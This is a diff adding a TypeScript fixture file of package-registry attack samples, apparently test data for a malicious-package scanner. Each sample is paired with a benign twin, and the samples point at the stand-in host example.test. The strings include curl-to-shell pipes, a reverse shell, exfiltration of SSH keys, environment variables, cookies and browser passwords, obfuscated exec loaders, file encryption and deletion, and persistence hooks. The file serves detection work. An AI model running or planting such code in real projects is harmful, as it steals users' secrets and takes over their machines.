@@ -1,0 +1,525 @@
+/**
+ * Small packs that do what attacks on package registries were reported to do, and a harmless twin of each that does
+ * something alike for a good reason. They are inert: every host is `example.test`, every payload is empty.
+ */
+export interface Attack {
+  /** The technique, as a sentence says it. */
+  name: string
+  files: Readonly<Record<string, string | Uint8Array>>
+  twin: Readonly<Record<string, string | Uint8Array>>
+}
+
+/** Most need one file only. */
+function python(name: string, attack: string, twin: string): Attack {
+  return { name, files: { '__init__.py': attack }, twin: { '__init__.py': twin } }
+}
+
+function script(name: string, attack: string, twin: string): Attack {
+  const init = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
+  return {
+    name,
+    files: { '__init__.py': init, 'web/main.js': attack },
+    twin: { '__init__.py': init, 'web/main.js': twin },
+  }
+}
+
+const payload = 'cHJpbnQoMSk='
+const letters = (text: string, key = 0) => [...text].map((letter) => letter.charCodeAt(0) ^ key).join(', ')
+
+const codeAttacks: Attack[] = [
+  python(
+    'runs what an address answers',
+    'import requests\nexec(requests.get("https://example.test/a").text)',
+    'import requests\nprint(requests.get("https://example.test/a").text)',
+  ),
+  python(
+    'runs what an address answers, through a function and an alias',
+    'import urllib.request as net\nrun = eval\ndef load(u):\n    with net.urlopen(u) as r:\n        return r.read().decode()\nrun(load("https://example.test/a"))',
+    'import urllib.request as net, json\ndef load(u):\n    with net.urlopen(u) as r:\n        return r.read().decode()\njson.loads(load("https://example.test/a"))',
+  ),
+  python(
+    'runs a field of an answer, from a method',
+    'import requests\nclass Node:\n    def fetch(self):\n        self.data = requests.post("https://example.test").json()\n    def go(self):\n        exec(self.data["code"])',
+    'import requests\nclass Node:\n    def fetch(self):\n        self.data = requests.post("https://example.test").json()\n    def go(self):\n        return float(self.data["value"])',
+  ),
+  {
+    name: 'spreads download and run over files',
+    files: {
+      '__init__.py': 'from .a import get\nfrom .b import go\ngo(get())',
+      'a.py': 'import requests\ndef get():\n    return requests.get("https://example.test").text',
+      'b.py': 'def go(code):\n    exec(code)',
+    },
+    twin: {
+      '__init__.py': 'from .a import get\nfrom .b import go\ngo(get())',
+      'a.py': 'import requests\ndef get():\n    return requests.get("https://example.test").text',
+      'b.py': 'def go(code):\n    print(code)',
+    },
+  },
+  python(
+    'decodes and runs',
+    `import base64\nexec(base64.b64decode("${payload}"))`,
+    `import base64\nlogo = base64.b64decode("${payload}")`,
+  ),
+  python(
+    'decodes in layers',
+    `import zlib, base64, marshal\nexec(marshal.loads(zlib.decompress(base64.b85decode(b"c-o~0"))))`,
+    'import zlib, base64, json\nx = json.loads(zlib.decompress(base64.b85decode(b"c-o~0")))',
+  ),
+  python(
+    'hides the decoder behind a lambda',
+    `_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))\nexec((_)(b"${payload}"))`,
+    'f = lambda x: x[::-1]\nprint(f("abc"))',
+  ),
+  python(
+    'reaches exec through builtins',
+    `getattr(__builtins__, "ex" + "ec")(__import__("base64").b64decode("${payload}"))`,
+    'value = getattr(object(), "a" + "b", None)',
+  ),
+  python(
+    'adds letters up by XOR',
+    `exec("".join(chr(c ^ 9) for c in [${letters('print("x", 1)', 9)}]))`,
+    'name = "".join(chr(c) for c in [97, 98])',
+  ),
+  python('turns text around', 'exec(")1(tnirp"[::-1])', 'print(")1(tnirp"[::-1])'),
+  python(
+    'uses another alphabet',
+    'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))',
+    'import codecs\nprint(codecs.decode("cevag(1)", "rot13"))',
+  ),
+  python(
+    'puts the name of a module together',
+    'import importlib\nm = importlib.import_module("sub" + "process")\nm.Popen(["x"])',
+    'import importlib\nm = importlib.import_module("." + "nodes", __name__)',
+  ),
+  python(
+    'takes functions out of globals',
+    `globals()["__builtins__"]["e" + "val"]("1")\ngetattr(__import__("o" + "s"), "sys" + "tem")("x")`,
+    'for name in list(globals()):\n    print(globals()[name])',
+  ),
+  python(
+    'climbs through the classes of Python',
+    '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0](["x"])',
+    'class A: pass\nprint(A.__subclasses__())',
+  ),
+  python(
+    'lets the language call it',
+    'class X:\n    __class_getitem__ = exec\nX["import os"]',
+    'class X:\n    def __class_getitem__(cls, key):\n        return cls',
+  ),
+  python(
+    'runs in a thread',
+    'import threading, requests\nthreading.Thread(target=exec, args=(requests.get("https://example.test").text,)).start()',
+    'import threading, requests\nthreading.Thread(target=print, args=(requests.get("https://example.test").text,)).start()',
+  ),
+  python(
+    'uses a decorator',
+    `import base64\n@exec\n@base64.b64decode\n@(lambda f: "${payload}")\ndef f(): pass`,
+    'import functools\n@functools.cache\ndef f(): pass',
+  ),
+  python(
+    'loads a pickle from an address',
+    'import pickle, requests\npickle.loads(requests.get("https://example.test").content)',
+    'import json, requests\njson.loads(requests.get("https://example.test").content)',
+  ),
+  python(
+    'loads weights from a server of its own',
+    'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", "m.pt")\ntorch.load("m.pt")',
+    'import torch, urllib.request\nurllib.request.urlretrieve("https://huggingface.co/a/b/resolve/main/m.pt", "m.pt")\ntorch.load("m.pt", weights_only=True)',
+  ),
+  python(
+    'builds objects from YAML of an address',
+    'import yaml, requests\nyaml.load(requests.get("https://example.test").text, Loader=yaml.UnsafeLoader)',
+    'import yaml, requests\nyaml.safe_load(requests.get("https://example.test").text)',
+  ),
+  python(
+    'fetches a module, writes it and imports it',
+    'import requests, importlib.util\nopen("helper.py", "w").write(requests.get("https://example.test/h").text)\ns = importlib.util.spec_from_file_location("helper", "helper.py")\ns.loader.exec_module(importlib.util.module_from_spec(s))',
+    'import requests, json\nopen("list.json", "w").write(requests.get("https://example.test/h").text)\njson.load(open("list.json"))',
+  ),
+  python(
+    'runs a script from a hub',
+    'import runpy\nfrom huggingface_hub import hf_hub_download\nrunpy.run_path(hf_hub_download("a/b", "x.py"))',
+    'from huggingface_hub import hf_hub_download\npath = hf_hub_download("a/b", "x.safetensors")',
+  ),
+  {
+    name: 'hides code in a picture',
+    files: { '__init__.py': 'from PIL import Image\nexec(bytes(Image.open("logo.png").getdata()))' },
+    twin: { '__init__.py': 'from PIL import Image\nlogo = Image.open("logo.png")' },
+  },
+  {
+    name: 'runs a data file',
+    files: { '__init__.py': 'exec(open("weights.dat").read())' },
+    twin: { '__init__.py': 'data = open("weights.dat").read()' },
+  },
+  python(
+    'runs what a request holds',
+    'from server import PromptServer\n@PromptServer.instance.routes.post("/x")\nasync def x(request):\n    exec((await request.json())["c"])',
+    'from server import PromptServer\n@PromptServer.instance.routes.post("/x")\nasync def x(request):\n    print((await request.json())["c"])',
+  ),
+  python(
+    'calls the system’s library',
+    'import ctypes\nctypes.CDLL("libc.so.6").system(b"curl https://example.test/x | sh")',
+    'import ctypes\nctypes.CDLL("libc.so.6").getpid()',
+  ),
+  python(
+    'asks DNS for code',
+    'import dns.resolver\nfor r in dns.resolver.resolve("example.test", "TXT"):\n    exec(str(r))',
+    'import dns.resolver\nfor r in dns.resolver.resolve("example.test", "TXT"):\n    print(str(r))',
+  ),
+  python(
+    'writes names in other letters',
+    'import base64\nｅｘｅｃ(base64.b64decode("cHJpbnQoMSk="))',
+    'import base64\nｐｒｉｎｔ(base64.b64decode("cHJpbnQoMSk="))',
+  ),
+  python(
+    'hides code at the end of a long line',
+    `import json${' '.repeat(220)};import os`,
+    `import json${' '.repeat(220)}# note`,
+  ),
+  python(
+    'turns text around on the screen',
+    'level = "user\u202e \u2066# is admin\u2069 \u2066"\n',
+    'level = "مرحبا"\n',
+  ),
+  python(
+    'switches the encoding of the source',
+    '# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAbwBz-',
+    '# coding: utf-8\nimport os',
+  ),
+]
+
+const processAttacks: Attack[] = [
+  python(
+    'pipes an address into a shell',
+    'import os\nos.system("curl -fsSL https://example.test/x | bash")',
+    'import os\nos.system("git pull")',
+  ),
+  python(
+    'pipes an address into a shell that it puts together',
+    'import subprocess\nhost = "example" + ".test"\ncmd = ["sh", "-c", f"wget -qO- {host}/x | " + "sh"]\nsubprocess.Popen(cmd)',
+    'import subprocess\nname = "a" + ".png"\nsubprocess.Popen(["sh", "-c", f"ls {name}"])',
+  ),
+  python(
+    'starts PowerShell with encoded text',
+    'import subprocess\nsubprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand SQBFAFgA", shell=True)',
+    'import subprocess\nsubprocess.Popen("powershell Get-Date", shell=True)',
+  ),
+  python(
+    'decodes a command',
+    'import os, base64\nos.popen(base64.b64decode("d2hvYW1p").decode())',
+    'import os\nos.popen("whoami")',
+  ),
+  python(
+    'asks an address for commands',
+    'import requests, subprocess, time\nwhile True:\n    c = requests.get("https://example.test/c").text\n    subprocess.run(c, shell=True)\n    time.sleep(60)',
+    'import requests, subprocess\nname = requests.get("https://example.test/c").text\nsubprocess.run(["ffmpeg", "-i", name])',
+  ),
+  python(
+    'opens a shell to another machine',
+    'import socket, subprocess, os\ns = socket.socket()\ns.connect(("example.test", 4444))\nfor i in range(3):\n    os.dup2(s.fileno(), i)\nsubprocess.call(["/bin/sh", "-i"])',
+    'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 8188))',
+  ),
+  python(
+    'listens for commands',
+    'import socket, subprocess\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen()\nc, _ = s.accept()\nwhile True:\n    c.send(subprocess.check_output(c.recv(1024).decode(), shell=True))',
+    'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.listen()\nc, _ = s.accept()\nprint(c.recv(1024))',
+  ),
+  python(
+    'downloads a program and starts it',
+    'import os, urllib.request, tempfile\np = os.path.join(tempfile.gettempdir(), "update.exe")\nurllib.request.urlretrieve("https://example.test/u.exe", p)\nos.startfile(p)',
+    'import os, urllib.request, tempfile\np = os.path.join(tempfile.gettempdir(), "a.png")\nurllib.request.urlretrieve("https://example.test/a.png", p)',
+  ),
+  python(
+    'starts programs without waiting',
+    'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("curl https://example.test/x -o /tmp/x && chmod +x /tmp/x")\nasyncio.run(main())',
+    'import asyncio\nasync def main():\n    await asyncio.create_subprocess_exec("ffmpeg", "-version")\nasyncio.run(main())',
+  ),
+  python(
+    'mines currency',
+    'import subprocess\nsubprocess.Popen(["./xmrig", "-o", "stratum+tcp://example.test:3333"])',
+    'import subprocess\nsubprocess.Popen(["./upscaler", "-i", "a.png"])',
+  ),
+  python(
+    'installs from an index of its own',
+    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://example.test/simple", "numpy"])',
+    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.org/simple", "numpy"])',
+  ),
+  python(
+    'installs what an address names',
+    'import requests, subprocess, sys\nfor p in requests.get("https://example.test/p").json():\n    subprocess.run([sys.executable, "-m", "pip", "install", p])',
+    'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])',
+  ),
+  python(
+    'runs pip as a module',
+    'import runpy, sys, requests\nname = requests.get("https://example.test/p").text\nfrom pip._internal.cli.main import main\nmain(["install", name])',
+    'from pip._internal.cli.main import main\nmain(["install", "numpy"])',
+  ),
+  python(
+    'destroys files',
+    'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))',
+    'import shutil, tempfile\nshutil.rmtree(tempfile.mkdtemp())',
+  ),
+  python(
+    'encrypts the user’s files',
+    'from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in Path.home().rglob("*.docx"):\n    p.write_bytes(f.encrypt(p.read_bytes()))',
+    'from pathlib import Path\nfor p in Path("models").rglob("*.txt"):\n    print(p.read_text())',
+  ),
+  {
+    name: 'runs while it is set up',
+    files: {
+      '__init__.py': '',
+      'setup.py':
+        'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system("curl https://example.test/x | sh")\nsetup(cmdclass={"install": I})',
+    },
+    twin: { '__init__.py': '', 'setup.py': 'from setuptools import setup\nsetup(name="x")' },
+  },
+  {
+    name: 'runs before the tool starts',
+    files: {
+      '__init__.py': '',
+      'prestartup_script.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
+    },
+    twin: { '__init__.py': '', 'prestartup_script.py': 'import os\nos.makedirs("models/x", exist_ok=True)' },
+  },
+  {
+    name: 'runs from a script for installing',
+    files: { '__init__.py': '', 'install.sh': '#!/bin/sh\ncurl -s https://example.test/x | sh\n' },
+    twin: { '__init__.py': '', 'install.sh': '#!/bin/sh\npip install -r requirements.txt\n' },
+  },
+  {
+    name: 'runs a command from a notebook',
+    files: {
+      '__init__.py': '',
+      'demo.ipynb': JSON.stringify({
+        cells: [{ cell_type: 'code', source: ['!curl https://example.test/x | bash\n'] }],
+      }),
+    },
+    twin: {
+      '__init__.py': '',
+      'demo.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source: ['!pip install numpy\n'] }] }),
+    },
+  },
+]
+
+const reachAttacks: Attack[] = [
+  python(
+    'sends SSH keys',
+    'import os, requests\nrequests.post("https://example.test", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
+    'import requests\nrequests.post("https://example.test", data=open("image.png", "rb").read())',
+  ),
+  python(
+    'collects credential files',
+    'from pathlib import Path\nfound = []\nfor n in (".aws/credentials", ".npmrc", ".git-credentials"):\n    p = Path.home() / n\n    if p.exists():\n        found.append(p.read_text())',
+    'from pathlib import Path\nfor n in (".cache", ".config"):\n    p = Path.home() / n\n    print(p.exists())',
+  ),
+  python(
+    'reads the browser’s passwords',
+    'import os, sqlite3, shutil\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\nshutil.copy(p, "x.db")\nsqlite3.connect("x.db")',
+    'import os, sqlite3\np = os.path.join("data", "prompts.db")\nsqlite3.connect(p)',
+  ),
+  python(
+    'reads wallets',
+    'import os, glob\nfor w in glob.glob(os.path.expanduser("~/.electrum/wallets/*")):\n    print(open(w).read())',
+    'import os, glob\nfor w in glob.glob("models/*"):\n    print(w)',
+  ),
+  python(
+    'reads tokens of a chat program',
+    'import os, re\np = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"\nfor f in os.listdir(p):\n    print(re.findall("x", open(p + "\\\\" + f, errors="ignore").read()))',
+    'import os\nfor f in os.listdir("output"):\n    print(f)',
+  ),
+  python(
+    'sends the environment',
+    'import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request("https://example.test", data=json.dumps(dict(os.environ)).encode()))',
+    'import os, subprocess\nenv = dict(os.environ)\nsubprocess.run(["git"], env=env)',
+  ),
+  python(
+    'sends who uses the machine',
+    'import getpass, platform, socket, requests\ninfo = {"u": getpass.getuser(), "h": socket.gethostname(), "o": platform.platform()}\nrequests.get("https://example.test", params=info)',
+    'import platform\nprint({"o": platform.platform()})',
+  ),
+  python(
+    'sends data as names of hosts',
+    'import socket, os\nd = os.environ.get("USER", "").encode().hex()\nsocket.gethostbyname(d + ".example.test")',
+    'import socket\nsocket.gethostbyname("example.test")',
+  ),
+  python(
+    'sends to a built-in chat channel',
+    `import requests\nrequests.post("https://discord.com/api/webhooks/${'1'.repeat(18)}/${'aB3_'.repeat(17)}", json={"content": "x"})`,
+    'import requests\ndef send(url):\n    requests.post(url, json={"content": "x"})',
+  ),
+  python(
+    'hides the receiver',
+    'import requests, base64\nrequests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3Q=").decode(), json={"a": 1})',
+    'import requests\nrequests.post("https://example.test", json={"a": 1})',
+  ),
+  python(
+    'listens to keys',
+    'from pynput.keyboard import Listener\nkeys = []\ndef on_press(k):\n    keys.append(k)\nListener(on_press=on_press).start()',
+    'from pynput.mouse import Controller\nprint(Controller().position)',
+  ),
+  python(
+    'sends the screen',
+    'from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nImageGrab.grab().save(b)\nrequests.post("https://example.test", files={"f": ImageGrab.grab().tobytes()})',
+    'from PIL import ImageGrab\nimage = ImageGrab.grab()',
+  ),
+  python(
+    'replaces copied addresses of wallets',
+    'import pyperclip, re\nif re.match("^(bc1|0x)", pyperclip.paste()):\n    pyperclip.copy("0x" + "1" * 40)',
+    'import pyperclip\npyperclip.copy("prompt")',
+  ),
+  python(
+    'walks through the user’s folders',
+    'import os, requests\nfor r, _, fs in os.walk(os.path.expanduser("~")):\n    for f in fs:\n        requests.post("https://example.test", files={"f": open(os.path.join(r, f), "rb")})',
+    'import os\nfor r, _, fs in os.walk("models"):\n    for f in fs:\n        print(f)',
+  ),
+  python(
+    'adds to the files of shells',
+    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("x")',
+    'import os\nwith open("notes.txt", "a") as f:\n    f.write("x")',
+  ),
+  python(
+    'starts with the system',
+    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "x.exe")',
+    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Blender")',
+  ),
+  python(
+    'makes a scheduled task',
+    'import subprocess\nsubprocess.run("schtasks /create /sc minute /tn x /tr x.exe", shell=True)',
+    'import subprocess\nsubprocess.run("tasklist", shell=True)',
+  ),
+  python(
+    'changes the list of hosts',
+    'with open("/etc/hosts", "a") as f:\n    f.write("127.0.0.1 example.test\\n")',
+    'with open("hosts.txt", "a") as f:\n    f.write("x")',
+  ),
+  python(
+    'changes another package',
+    'import requests.api as api, os\np = os.path.join("lib", "site-packages", "requests", "api.py")\nopen(p, "a").write("import os")',
+    'import os\np = os.path.join("lib", "cache", "api.json")\nopen(p, "a").write("{}")',
+  ),
+  python(
+    'writes a file that Python starts with',
+    'import site, os\nopen(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import os; os.getcwd()")',
+    'import torch\ntorch.save({}, "x.pth")',
+  ),
+  python(
+    'writes a hook of git',
+    'with open(".git/hooks/post-merge", "w") as f:\n    f.write("#!/bin/sh")',
+    'with open("merge.log", "w") as f:\n    f.write("x")',
+  ),
+]
+
+const scriptAttacks: Attack[] = [
+  script(
+    'sends cookies',
+    'fetch("https://example.test/?c=" + encodeURIComponent(document.cookie))',
+    'fetch("/api/x?c=" + encodeURIComponent(name))',
+  ),
+  script(
+    'sends the page’s storage',
+    'const all = {...localStorage};\nnavigator.sendBeacon("https://example.test", JSON.stringify(all))',
+    'const all = {...localStorage};\nconsole.log(JSON.stringify(all))',
+  ),
+  script(
+    'sends what the user types',
+    'addEventListener("keydown", (e) => { new WebSocket("wss://example.test/" + e.key) })',
+    'addEventListener("keydown", (e) => { if (e.key === "a") run() })',
+  ),
+  script(
+    'runs what an address answers',
+    'fetch("https://example.test/x").then((r) => r.text()).then((t) => (0, eval)(t))',
+    'fetch("https://example.test/x").then((r) => r.text()).then((t) => console.log(t))',
+  ),
+  script(
+    'decodes a script and runs it',
+    'new Function(atob("YWxlcnQoMSk="))()',
+    'const text = atob("YWxlcnQoMSk=")',
+  ),
+  script(
+    'loads a script from another server',
+    'const s = document.createElement("script");\ns.src = "https://example.test/x.js";\ndocument.head.appendChild(s)',
+    'const s = document.createElement("script");\ns.src = "/extensions/x/y.js";\ndocument.head.appendChild(s)',
+  ),
+  script(
+    'hides names in a table',
+    Array.from({ length: 60 }, (_, i) => `const _0x${(4096 + i).toString(16)} = ${i};`).join('\n'),
+    'const a = 1;',
+  ),
+  script(
+    'asks for the wallet',
+    'window.ethereum.request({ method: "eth_sendTransaction", params: [] })',
+    'window.app.request({ method: "x" })',
+  ),
+]
+
+const bytes = (...values: number[]) => Uint8Array.from([...values, ...Array.from({ length: 300 }, () => 0)])
+
+const fileAttacks: Attack[] = [
+  {
+    name: 'ships a line that Python starts with',
+    files: { '__init__.py': '', 'x.pth': 'import os; os.getcwd()\n' },
+    twin: { '__init__.py': '', 'x.pth': 'PK\u0003\u0004 weights' },
+  },
+  {
+    name: 'ships compiled code without its source',
+    files: { '__init__.py': 'from . import core', 'core.pyc': bytes(0xa7, 0x0d, 0x0d, 0x0a) },
+    twin: { '__init__.py': 'from . import core', 'core.py': '' },
+  },
+  {
+    name: 'ships a program as a picture',
+    files: { '__init__.py': '', 'logo.png': bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1) },
+    twin: { '__init__.py': '', 'logo.png': bytes(0x89, 0x50, 0x4e, 0x47) },
+  },
+  {
+    name: 'ships an archive as a picture',
+    files: { '__init__.py': '', 'logo.jpg': bytes(0x50, 0x4b, 3, 4) },
+    twin: { '__init__.py': '', 'logo.jpg': bytes(0xff, 0xd8, 0xff) },
+  },
+  {
+    name: 'ships a folder of git with hooks',
+    files: { '__init__.py': '', '.git/hooks/post-checkout': '#!/bin/sh\n' },
+    twin: { '__init__.py': '', '.gitignore': '*.pyc\n' },
+  },
+  {
+    name: 'starts with an editor',
+    files: {
+      '__init__.py': '',
+      '.vscode/tasks.json': '{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}',
+    },
+    twin: { '__init__.py': '', '.vscode/tasks.json': '{"tasks": [{"command": "npm test"}]}' },
+  },
+  {
+    name: 'depends on a misspelt package',
+    files: { '__init__.py': '', 'requirements.txt': 'reqeusts>=2\n' },
+    twin: { '__init__.py': '', 'requirements.txt': 'requests>=2\n' },
+  },
+  {
+    name: 'depends on an unencrypted address',
+    files: { '__init__.py': '', 'requirements.txt': 'a @ http://example.test/a.whl\n' },
+    twin: { '__init__.py': '', 'requirements.txt': 'a>=1\n' },
+  },
+  {
+    name: 'depends on an index of its own',
+    files: {
+      '__init__.py': '',
+      'requirements.txt': '--extra-index-url https://example.test/simple\nnumpy\n',
+    },
+    twin: {
+      '__init__.py': '',
+      'requirements.txt': '--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n',
+    },
+  },
+  {
+    name: 'runs objects of a YAML file',
+    files: { '__init__.py': '', 'config.yaml': 'a: !!python/object/apply:os.system ["x"]\n' },
+    twin: { '__init__.py': '', 'config.yaml': 'a: [1, 2]\n' },
+  },
+]
+
+export const attacks: readonly Attack[] = [
+  ...codeAttacks,
+  ...processAttacks,
+  ...reachAttacks,
+  ...scriptAttacks,
+  ...fileAttacks,
+]
